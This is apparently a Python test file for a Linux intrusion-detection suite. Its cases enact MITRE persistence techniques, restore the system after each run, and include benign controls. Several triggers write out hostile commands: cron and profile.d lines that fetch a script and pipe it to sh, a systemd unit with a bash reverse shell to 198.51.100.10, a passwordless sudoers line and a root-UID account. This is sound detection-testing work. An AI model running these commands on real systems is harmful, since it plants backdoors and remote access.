# SPDX-License-Identifier: Apache-2.0
"""Persistence (TA0003): cron and at, systemd units and timers, rc scripts,
shell start-up files, the dynamic loader, SSH keys, sudoers, accounts, PAM,
kernel modules and login/device hooks (rules/20_persistence.yaml).

Every trigger changes real system files the way an intruder would, with unique
names (vigil-det-*) where it can, and its cleanup restores them: new files are
removed, changed files are written back from a copy taken in setup, byte for
byte and in place (same inode), and account lines are removed in place so a
concurrent change by another run is kept."""
from detlib import Benign, Case

BOTH = ("host", "container")

# Shell helpers: save a file (or its absence) in setup; put it back in cleanup.
SAVE = r'''
det_save() {  # det_save FILE: copy FILE (or note its absence) under $DET_DIR/saved
    local f=$1 b="$DET_DIR/saved$1"
    mkdir -p "$(dirname "$b")"
    if [ -e "$f" ]; then cp -a "$f" "$b"; else : > "$b.absent"; fi
}
det_restore() {  # det_restore FILE: write the saved content back in place, or remove FILE
    local f=$1 b="$DET_DIR/saved$1"
    if [ -e "$b.absent" ]; then rm -f "$f"; elif [ -e "$b" ]; then cat "$b" > "$f"; fi
}
det_del_line() {  # det_del_line FILE PREFIX: drop lines starting with PREFIX, in place
    /usr/bin/python3 - "$1" "$2" <<'PY'
import sys
path, prefix = sys.argv[1], sys.argv[2]
with open(path, "r+") as f:
    lines = f.readlines()
    keep = [l for l in lines if not l.startswith(prefix)]
    if keep != lines:
        f.seek(0); f.writelines(keep); f.truncate()
PY
}
'''

CASES = [
    # --- cron / at
    Case(
        id="persistence.cron.crontab_from_stdin",
        tactic="persistence", technique="T1053.003",
        rules=["Cron Job Written"],
        setup=r'''mkdir -p /var/spool/cron/crontabs''',
        trigger=r'''
            echo "* * * * * /tmp/.x/beacon >/dev/null 2>&1" | crontab -u "$(det_user)" -
        ''',
        cleanup=r'''crontab -u "$(det_user)" -r 2>/dev/null || true''',
        where=BOTH, needs=["crontab"],
    ),
    Case(
        id="persistence.cron.crontab_as_user",
        tactic="persistence", technique="T1053.003",
        rules=["Cron Job Written"],
        trigger=r'''
            printf '*/5 * * * * curl -s http://198.51.100.10/x | sh\n' > "$DET_DIR/c"
            chmod 644 "$DET_DIR/c"; chmod 755 "$DET_DIR"
            su -s /bin/sh "$(det_user)" -c "crontab $DET_DIR/c"
        ''',
        cleanup=r'''crontab -u "$(det_user)" -r 2>/dev/null || true''',
        where=("host",), needs=["crontab", "su"],
    ),
    Case(
        id="persistence.cron.etc_cron_d",
        tactic="persistence", technique="T1053.003",
        rules=["Cron Job Written"],
        trigger=r'''
            mkdir -p /etc/cron.d
            echo "* * * * * root /dev/shm/.k >/dev/null 2>&1" > /etc/cron.d/vigil-det-job
        ''',
        cleanup=r'''rm -f /etc/cron.d/vigil-det-job''',
        where=BOTH,
    ),
    Case(
        id="persistence.cron.etc_crontab_append_python",
        tactic="persistence", technique="T1053.003",
        rules=["Cron Job Written"],
        setup=SAVE + r'''det_save /etc/crontab''',
        trigger=r'''
            /usr/bin/python3 -c 'open("/etc/crontab", "a").write("")'
        ''',
        cleanup=SAVE + r'''det_restore /etc/crontab''',
        where=BOTH,
    ),
    Case(
        id="persistence.cron.daily_script_sed",
        tactic="persistence", technique="T1053.003",
        rules=["Cron Job Written"],
        setup=r'''mkdir -p /etc/cron.daily; printf '#!/bin/sh\ntrue\n' > /etc/cron.daily/vigil-det''',
        trigger=r'''
            sed -i 's|^true$|/var/tmp/.u/run \&|' /etc/cron.daily/vigil-det
        ''',
        cleanup=r'''rm -f /etc/cron.daily/vigil-det''',
        where=BOTH,
    ),
    Case(
        id="persistence.at.job",
        tactic="persistence", technique="T1053.002",
        rules=["At Job Scheduled"],
        setup=r'''mkdir -p /var/spool/cron/atjobs /var/spool/cron/atspool
                  chown daemon:daemon /var/spool/cron/atjobs /var/spool/cron/atspool 2>/dev/null || true
                  if [ -e /var/spool/cron/atjobs/.SEQ ]; then cp /var/spool/cron/atjobs/.SEQ "$DET_DIR/saved.SEQ"
                  else : > /var/spool/cron/atjobs/.SEQ; chown daemon:daemon /var/spool/cron/atjobs/.SEQ; fi''',
        trigger=r'''
            echo "/tmp/.x/beacon" | at now + 30 minutes
        ''',
        cleanup=r'''for f in /var/spool/cron/atjobs/*; do
                        grep -q /tmp/.x/beacon "$f" 2>/dev/null && rm -f "$f"
                    done
                    [ -e "$DET_DIR/saved.SEQ" ] && cat "$DET_DIR/saved.SEQ" > /var/spool/cron/atjobs/.SEQ
                    true''',
        where=BOTH, needs=["at"],
    ),
    Case(
        id="persistence.systemd.transient_timer",
        tactic="persistence", technique="T1053.006",
        rules=["Transient Systemd Timer Created"],
        trigger=r'''
            systemd-run --on-calendar='*:0/5' /bin/sh -c '/tmp/.x/beacon' 2>/dev/null || true
        ''',
        where=BOTH, needs=["systemd-run"],
    ),
    # --- systemd units
    Case(
        id="persistence.systemd.service_in_etc",
        tactic="persistence", technique="T1543.002",
        rules=["Systemd Unit File Written"],
        trigger=r'''
            mkdir -p /etc/systemd/system
            cat > /etc/systemd/system/vigil-det-updater.service <<'EOF'
[Unit]
Description=updater
[Service]
ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.10/4444 0>&1'
Restart=always
[Install]
WantedBy=multi-user.target
EOF
        ''',
        cleanup=r'''rm -f /etc/systemd/system/vigil-det-updater.service''',
        where=BOTH,
    ),
    Case(
        id="persistence.systemd.user_timer_python",
        tactic="persistence", technique="T1543.002",
        rules=["Systemd Unit File Written"],
        setup=r'''[ -e /root/.config/systemd ] || touch "$DET_DIR/no-systemd-dir"''',
        trigger=r'''
            /usr/bin/python3 - <<'EOF'
import os
d = "/root/.config/systemd/user"
os.makedirs(d, exist_ok=True)
with open(d + "/vigil-det.timer", "w") as f:
    f.write("[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n")
EOF
        ''',
        cleanup=r'''rm -f /root/.config/systemd/user/vigil-det.timer
                    [ -e "$DET_DIR/no-systemd-dir" ] && rm -rf /root/.config/systemd; true''',
        where=BOTH,
    ),
    Case(
        id="persistence.systemd.link_from_tmp",
        tactic="persistence", technique="T1543.002",
        rules=["Systemd Unit Enabled from Writable Directory"],
        trigger=r'''
            printf '[Service]\nExecStart=/tmp/vigil-det-x\n' > /tmp/vigil-det-svc.service
            systemctl link /tmp/vigil-det-svc.service 2>/dev/null || true
        ''',
        cleanup=r'''rm -f /tmp/vigil-det-svc.service /etc/systemd/system/vigil-det-svc.service''',
        where=BOTH, needs=["systemctl"],
    ),
    Case(
        id="persistence.systemd.unit_moved_into_place",
        tactic="persistence", technique="T1543.002",
        rules=["Systemd Unit File Written"],
        setup=r'''mkdir -p /etc/systemd/system/multi-user.target.wants
                  printf '[Service]\nExecStart=/var/tmp/.d/agent\n' > /etc/systemd/system/.vigil-det-tmp''',
        trigger=r'''
            mv /etc/systemd/system/.vigil-det-tmp /etc/systemd/system/vigil-det-agent.service
        ''',
        cleanup=r'''rm -f /etc/systemd/system/.vigil-det-tmp /etc/systemd/system/vigil-det-agent.service''',
        where=BOTH,
    ),
    Case(
        id="persistence.cron.user_crontab_direct_copy",
        tactic="persistence", technique="T1053.003",
        rules=["Cron Job Written"],
        setup=r'''mkdir -p /var/spool/cron/crontabs''',
        trigger=r'''
            echo "@reboot /dev/shm/.x" > c
            cp c "/var/spool/cron/crontabs/$(det_user)"
        ''',
        cleanup=r'''rm -f "/var/spool/cron/crontabs/$(det_user)"''',
        where=BOTH,
    ),
    # --- rc scripts
    Case(
        id="persistence.rc.rc_local_append",
        tactic="persistence", technique="T1037.004",
        rules=["RC Script Modified"],
        setup=SAVE + r'''det_save /etc/rc.local''',
        trigger=r'''
            echo '/usr/local/bin/.svc &' >> /etc/rc.local
        ''',
        cleanup=SAVE + r'''det_restore /etc/rc.local''',
        where=BOTH,
    ),
    Case(
        id="persistence.rc.init_d_script",
        tactic="persistence", technique="T1037.004",
        rules=["RC Script Modified"],
        trigger=r'''
            mkdir -p /etc/init.d
            cp /bin/true /etc/init.d/vigil-det-svc
        ''',
        cleanup=r'''rm -f /etc/init.d/vigil-det-svc''',
        where=BOTH,
    ),
    # --- shell start-up files
    Case(
        id="persistence.shellrc.root_bashrc_echo",
        tactic="persistence", technique="T1546.004",
        rules=["User Shell Start-up File Modified"],
        setup=SAVE + r'''det_save /root/.bashrc''',
        trigger=r'''
            echo 'alias sudo="/tmp/.s/sudo"' >> /root/.bashrc
        ''',
        cleanup=SAVE + r'''det_restore /root/.bashrc''',
        where=BOTH,
    ),
    Case(
        id="persistence.shellrc.other_user_profile_vim",
        tactic="persistence", technique="T1546.004",
        rules=["User Shell Start-up File Modified"],
        setup=r'''mkdir -p /home/vigil-det-victim; printf '# profile\n' > /home/vigil-det-victim/.profile''',
        trigger=r'''
            vim -N -u NONE -i NONE -n -es -c '$put =\"nohup /tmp/.k >/dev/null 2>&1 &\"' -c 'wq' \
                /home/vigil-det-victim/.profile < /dev/null || true
        ''',
        cleanup=r'''rm -rf /home/vigil-det-victim''',
        where=BOTH, needs=["vim"],
    ),
    Case(
        id="persistence.shellrc.profile_d",
        tactic="persistence", technique="T1546.004",
        rules=["System-wide Shell Profile Modified"],
        trigger=r'''
            mkdir -p /etc/profile.d
            printf 'export PROMPT_COMMAND="curl -s http://198.51.100.10/k|sh"\n' > /etc/profile.d/vigil-det.sh
        ''',
        cleanup=r'''rm -f /etc/profile.d/vigil-det.sh''',
        where=BOTH,
    ),
    Case(
        id="persistence.shellrc.etc_environment_perl",
        tactic="persistence", technique="T1546.004",
        rules=["System-wide Shell Profile Modified"],
        setup=SAVE + r'''det_save /etc/environment''',
        trigger=r'''
            perl -e 'open(my $f, ">>", "/etc/environment") or die; close $f'
        ''',
        cleanup=SAVE + r'''det_restore /etc/environment''',
        where=BOTH,
    ),
    # --- dynamic loader
    Case(
        id="persistence.ld_preload.etc_ld_so_preload",
        tactic="persistence", technique="T1574.006",
        rules=["Dynamic Linker Preload File Modified"],
        setup=SAVE + r'''det_save /etc/ld.so.preload''',
        # An empty append: the same open as `echo /lib/x.so >> /etc/ld.so.preload`
        # without making every program on the machine load a library.
        trigger=r'''
            printf '' >> /etc/ld.so.preload
        ''',
        cleanup=SAVE + r'''det_restore /etc/ld.so.preload''',
        where=BOTH,
    ),
    Case(
        id="persistence.ld_preload.ld_so_conf_d",
        tactic="persistence", technique="T1574.006",
        rules=["Dynamic Linker Search Path Modified"],
        trigger=r'''
            echo /dev/shm/.lib > /etc/ld.so.conf.d/vigil-det.conf
        ''',
        cleanup=r'''rm -f /etc/ld.so.conf.d/vigil-det.conf''',
        where=BOTH,
    ),
    Case(
        id="persistence.ld_preload.env_dev_shm",
        tactic="persistence", technique="T1574.006",
        rules=["Program Run with LD_PRELOAD from Writable Directory"],
        trigger=r'''
            cp /lib/x86_64-linux-gnu/libm.so.6 /dev/shm/vigil-det-$$.so
            LD_PRELOAD=/dev/shm/vigil-det-$$.so /bin/true
            rm -f /dev/shm/vigil-det-$$.so
        ''',
        where=BOTH,
    ),
    Case(
        id="persistence.ld_preload.env_relative",
        tactic="persistence", technique="T1574.006",
        rules=["Program Run with LD_PRELOAD from Writable Directory"],
        trigger=r'''
            cp /lib/x86_64-linux-gnu/libm.so.6 ./libhook.so
            env LD_PRELOAD=./libhook.so /usr/bin/id > /dev/null
        ''',
        where=BOTH,
    ),
    # --- SSH keys
    Case(
        id="persistence.ssh.authorized_keys_other_user",
        tactic="persistence", technique="T1098.004",
        rules=["SSH Authorized Keys Modified"],
        trigger=r'''
            mkdir -p /home/vigil-det-victim/.ssh
            echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBv1g4bF0vigildetkey attacker@x" \
                >> /home/vigil-det-victim/.ssh/authorized_keys
        ''',
        cleanup=r'''rm -rf /home/vigil-det-victim''',
        where=BOTH,
    ),
    Case(
        id="persistence.ssh.root_authorized_keys2_cp",
        tactic="persistence", technique="T1098.004",
        rules=["SSH Authorized Keys Modified"],
        setup=SAVE + r'''det_save /root/.ssh/authorized_keys2; [ -d /root/.ssh ] || touch "$DET_DIR/no-ssh-dir"''',
        trigger=r'''
            echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQvigildet attacker@x" > "$DET_DIR/k"
            mkdir -p /root/.ssh
            cp "$DET_DIR/k" /root/.ssh/authorized_keys2
        ''',
        cleanup=SAVE + r'''det_restore /root/.ssh/authorized_keys2
                 [ -e "$DET_DIR/no-ssh-dir" ] && rmdir /root/.ssh 2>/dev/null; true''',
        where=BOTH,
    ),
    Case(
        id="persistence.ssh.sshd_authorized_keys_file",
        tactic="persistence", technique="T1098.004",
        rules=["SSH Server Authorized Keys Location Changed"],
        setup=r'''printf 'Port 22\n#AuthorizedKeysFile .ssh/authorized_keys\n' > "$DET_DIR/sshd_config"''',
        trigger=r'''
            sed -i 's|^#AuthorizedKeysFile.*|AuthorizedKeysFile /var/tmp/.k/%u|' "$DET_DIR/sshd_config"
        ''',
        where=BOTH,
    ),
    # --- sudoers
    Case(
        id="persistence.sudoers.sudoers_d_nopasswd",
        tactic="persistence", technique="T1548.003",
        rules=["Sudoers File Modified"],
        trigger=r'''
            mkdir -p /etc/sudoers.d
            echo "$(det_user) ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/vigil-det
            chmod 440 /etc/sudoers.d/vigil-det
        ''',
        cleanup=r'''rm -f /etc/sudoers.d/vigil-det''',
        where=BOTH,
    ),
    Case(
        id="persistence.sudoers.sed_in_place",
        tactic="persistence", technique="T1548.003",
        rules=["Sudoers File Modified"],
        setup=r'''mkdir -p /etc/sudoers.d; echo '# vigil-det' > /etc/sudoers.d/vigil-det-sed
                  chmod 440 /etc/sudoers.d/vigil-det-sed''',
        trigger=r'''
            sed -i "\$a $(det_user) ALL=(ALL) NOPASSWD: ALL" /etc/sudoers.d/vigil-det-sed
        ''',
        cleanup=r'''rm -f /etc/sudoers.d/vigil-det-sed''',
        where=BOTH,
    ),
    # --- accounts
    Case(
        id="persistence.accounts.passwd_uid0_append",
        tactic="persistence", technique="T1136.001",
        rules=["Account Database Written Directly"],
        trigger=r'''
            echo 'vigil-det0:$1$x$Jx9Xy5q2RvGz4pQm3zQv1.:0:0::/root:/bin/bash' >> /etc/passwd
        ''',
        cleanup=SAVE + r'''det_del_line /etc/passwd 'vigil-det0:' ''',
        where=BOTH,
    ),
    Case(
        id="persistence.accounts.useradd_uid0",
        tactic="persistence", technique="T1136.001",
        rules=["Local Account Created", "Account Given Root UID or Privileged Group"],
        trigger=r'''
            useradd -o -u 0 -g 0 -M -d /root -s /bin/bash vigil-det-r00t
        ''',
        cleanup=r'''userdel -f vigil-det-r00t 2>/dev/null || true''',
        where=BOTH,
    ),
    Case(
        id="persistence.accounts.usermod_sudo_group",
        tactic="persistence", technique="T1098",
        rules=["Account Given Root UID or Privileged Group"],
        setup=r'''useradd -M -s /usr/sbin/nologin vigil-det-svc''',
        trigger=r'''
            usermod -a -G sudo vigil-det-svc
        ''',
        cleanup=r'''userdel -f vigil-det-svc 2>/dev/null || true''',
        where=BOTH,
    ),
    Case(
        id="persistence.accounts.chpasswd_reset",
        tactic="persistence", technique="T1098",
        rules=["Password Set Non-interactively"],
        setup=r'''useradd -M -s /usr/sbin/nologin vigil-det-pw''',
        trigger=r'''
            echo 'vigil-det-pw:Winter2026!' | chpasswd
        ''',
        cleanup=r'''userdel -f vigil-det-pw 2>/dev/null || true''',
        where=BOTH,
    ),
    # --- PAM
    Case(
        id="persistence.pam.pam_d_file",
        tactic="persistence", technique="T1556.003",
        rules=["PAM Configuration or Module Modified"],
        trigger=r'''
            printf 'auth sufficient pam_exec.so quiet /tmp/.x/log\n' > /etc/pam.d/vigil-det
        ''',
        cleanup=r'''rm -f /etc/pam.d/vigil-det''',
        where=BOTH,
    ),
    Case(
        id="persistence.pam.module_dropped",
        tactic="persistence", technique="T1556.003",
        rules=["PAM Configuration or Module Modified"],
        trigger=r'''
            cp /lib/x86_64-linux-gnu/libm.so.6 /lib/x86_64-linux-gnu/security/pam_vigil_det.so
        ''',
        cleanup=r'''rm -f /lib/x86_64-linux-gnu/security/pam_vigil_det.so''',
        where=("host",),  # the container's /lib is the host's, read-only
    ),
    # --- kernel modules
    Case(
        id="persistence.kmod.insmod_from_tmp",
        tactic="persistence", technique="T1547.006",
        rules=["Kernel Module Load Attempted", "Kernel Module Loaded from Non-standard Path"],
        trigger=r'''
            head -c 4096 /dev/urandom > /tmp/vigil-det-$$.ko
            insmod /tmp/vigil-det-$$.ko 2>/dev/null || true
            rm -f /tmp/vigil-det-$$.ko
        ''',
        where=BOTH, needs=["insmod"],
    ),
    Case(
        id="persistence.kmod.finit_module_python",
        tactic="persistence", technique="T1547.006",
        rules=["Kernel Module Load Attempted"],
        trigger=r'''
            head -c 4096 /dev/urandom > "$DET_DIR/rk.ko"
            /usr/bin/python3 - "$DET_DIR/rk.ko" <<'EOF' || true
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open(sys.argv[1], os.O_RDONLY)
libc.syscall(313, fd, b"", 0)   # finit_module
EOF
        ''',
        where=BOTH,
    ),
    # --- login and device hooks
    Case(
        id="persistence.hooks.update_motd",
        tactic="persistence", technique="T1037",
        rules=["Login or Device Hook Script Written"],
        trigger=r'''
            mkdir -p /etc/update-motd.d
            printf '#!/bin/sh\n/tmp/.x &\n' > /etc/update-motd.d/99-vigil-det
        ''',
        cleanup=r'''rm -f /etc/update-motd.d/99-vigil-det''',
        where=BOTH,
    ),
    Case(
        id="persistence.hooks.udev_rule",
        tactic="persistence", technique="T1546",
        rules=["Login or Device Hook Script Written"],
        trigger=r'''
            mkdir -p /etc/udev/rules.d
            echo 'ACTION=="add", RUN+="/tmp/.x"' > /etc/udev/rules.d/99-vigil-det.rules
        ''',
        cleanup=r'''rm -f /etc/udev/rules.d/99-vigil-det.rules''',
        where=BOTH,
    ),
]

BENIGN = [
    Benign(
        id="benign.persistence.crontab_list",
        script=r'''crontab -l 2>/dev/null || true; crontab -u root -l 2>/dev/null || true''',
        where=BOTH, needs=["crontab"],
    ),
    Benign(
        id="benign.persistence.read_cron_and_units",
        script=r'''
            cat /etc/crontab > /dev/null
            ls /etc/cron.d /etc/systemd/system > /dev/null 2>&1 || true
            grep -r ExecStart /lib/systemd/system > /dev/null 2>&1 || true
        ''',
        where=BOTH,
    ),
    Benign(
        id="benign.persistence.systemctl_daemon_reload",
        script=r'''systemctl daemon-reload 2>/dev/null || true
                   systemctl list-unit-files > /dev/null 2>&1 || true''',
        where=BOTH, needs=["systemctl"],
    ),
    Benign(
        id="benign.persistence.vim_own_bashrc",
        setup=SAVE + r'''det_save /root/.bashrc''',
        script=r'''
            vim -N -u NONE -i NONE -n -es -c '$put =\"alias ll=\\\"ls -l\\\"\"' -c 'wq' /root/.bashrc \
                < /dev/null || true
        ''',
        cleanup=SAVE + r'''det_restore /root/.bashrc''',
        where=BOTH, needs=["vim"],
    ),
    Benign(
        id="benign.persistence.ssh_keygen_own_key",
        script=r'''ssh-keygen -q -t ed25519 -N '' -C vigil-det -f "$DET_DIR/id_ed25519"
                   ssh-keygen -l -f "$DET_DIR/id_ed25519.pub" > /dev/null''',
        where=BOTH, needs=["ssh-keygen"],
    ),
    Benign(
        id="benign.persistence.sshd_config_sed_edit",
        setup=r'''printf 'Port 22\nPasswordAuthentication yes\n' > "$DET_DIR/sshd_config"''',
        script=r'''sed -i 's/^PasswordAuthentication yes/PasswordAuthentication no/' "$DET_DIR/sshd_config"''',
        where=BOTH,
    ),
    Benign(
        id="benign.persistence.shadow_utils_read",
        script=r'''chage -l root > /dev/null; passwd -S root > /dev/null; id root > /dev/null
                   getent passwd root > /dev/null''',
        where=BOTH,
    ),
    Benign(
        id="benign.persistence.ldconfig",
        script=r'''ldconfig; ldconfig -p > /dev/null''',
        where=("host",),
    ),
    Benign(
        id="benign.persistence.ld_preload_system_lib",
        script=r'''LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 /bin/true''',
        where=BOTH,
    ),
    Benign(
        id="benign.persistence.visudo_check",
        script=r'''visudo -c > /dev/null 2>&1 || true''',
        where=BOTH, needs=["visudo"],
    ),
    # A package whose maintainer scripts do what packages do: a system user
    # (adduser --system), a unit in /etc/systemd/system, a cron.d file, a PAM
    # stack file, an ld.so.conf.d entry and ldconfig, a profile.d script, a
    # setuid bit set by the package.
    Benign(
        id="benign.persistence.dpkg_maintainer_scripts",
        script=r'''
            p=vigil-det-pkg; r="$DET_DIR/$p"
            mkdir -p "$r/DEBIAN" "$r/usr/share/doc/$p"
            echo "vigil detection suite test package" > "$r/usr/share/doc/$p/README"
            printf '%s\n' "Package: $p" "Version: 1.0" "Architecture: all" \
                "Maintainer: vigil <vigil@localhost>" "Description: vigil detection suite test" \
                > "$r/DEBIAN/control"
            printf '%s\n' '#!/bin/sh' 'set -e' \
                'adduser --system --group --no-create-home --quiet vigil-det-pkg 2>/dev/null ||' \
                '    useradd --system --no-create-home --shell /usr/sbin/nologin vigil-det-pkg' \
                'mkdir -p /etc/systemd/system /etc/cron.d /etc/pam.d /etc/ld.so.conf.d /etc/profile.d' \
                'printf "[Service]\nExecStart=/bin/true\n" > /etc/systemd/system/vigil-det-pkg.service' \
                'echo "0 4 * * * root /bin/true" > /etc/cron.d/vigil-det-pkg' \
                'echo "auth required pam_permit.so" > /etc/pam.d/vigil-det-pkg' \
                'echo /usr/lib/vigil-det-pkg > /etc/ld.so.conf.d/vigil-det-pkg.conf' \
                'echo true > /etc/profile.d/vigil-det-pkg.sh' \
                'ldconfig' \
                'chmod 4755 /usr/share/doc/vigil-det-pkg/README; chmod 644 /usr/share/doc/vigil-det-pkg/README' \
                'systemctl daemon-reload 2>/dev/null || true' \
                > "$r/DEBIAN/postinst"
            printf '%s\n' '#!/bin/sh' \
                'rm -f /etc/systemd/system/vigil-det-pkg.service /etc/cron.d/vigil-det-pkg /etc/pam.d/vigil-det-pkg' \
                'rm -f /etc/ld.so.conf.d/vigil-det-pkg.conf /etc/profile.d/vigil-det-pkg.sh' \
                'if [ "$1" = purge ]; then userdel vigil-det-pkg 2>/dev/null || true; fi' \
                'ldconfig' \
                > "$r/DEBIAN/postrm"
            chmod 755 "$r/DEBIAN/postinst" "$r/DEBIAN/postrm"
            dpkg-deb --build -Zgzip "$r" "$DET_DIR/$p.deb" > /dev/null
            dpkg -i "$DET_DIR/$p.deb" > /dev/null
            dpkg --purge "$p" > /dev/null
        ''',
        cleanup=r'''dpkg --purge vigil-det-pkg > /dev/null 2>&1 || true
                    userdel vigil-det-pkg 2>/dev/null || true''',
        where=("host",), needs=["dpkg", "dpkg-deb"],  # the container has no dpkg database
    ),
    Benign(
        id="benign.persistence.modprobe_dry_run_by_name",
        script=r'''modprobe -n -q loop 2>/dev/null || true; modinfo loop > /dev/null 2>&1 || true''',
        where=BOTH, needs=["modprobe"],
    ),
]
